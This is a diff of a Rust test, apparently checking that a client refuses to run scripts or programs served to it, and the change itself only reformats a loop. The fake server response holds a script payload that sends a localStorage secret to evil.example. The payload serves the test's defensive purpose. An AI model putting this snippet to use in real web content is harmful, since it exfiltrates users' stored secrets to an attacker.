@@ -17,7 +17,9 @@ fn the_service_serves_no_program_and_the_client_runs_none() {
         assert_eq!(answer.status, 404, "{path}");
     }
     let before = phone.codes();
-    for content_type in ["text/html", "application/javascript", "application/wasm", regain_protocol::ENTRIES_TYPE] {
+    for content_type in
+        ["text/html", "application/javascript", "application/wasm", regain_protocol::ENTRIES_TYPE]
+    {
         let mut victim = phone.duplicate().behind(Instead(move |_: &mut Request| {
             let body = b"<script>fetch('https://evil.example/' + localStorage.kit)</script>".to_vec();
             Some(Response { status: 200, content_type: content_type.to_owned(), head: None, body })
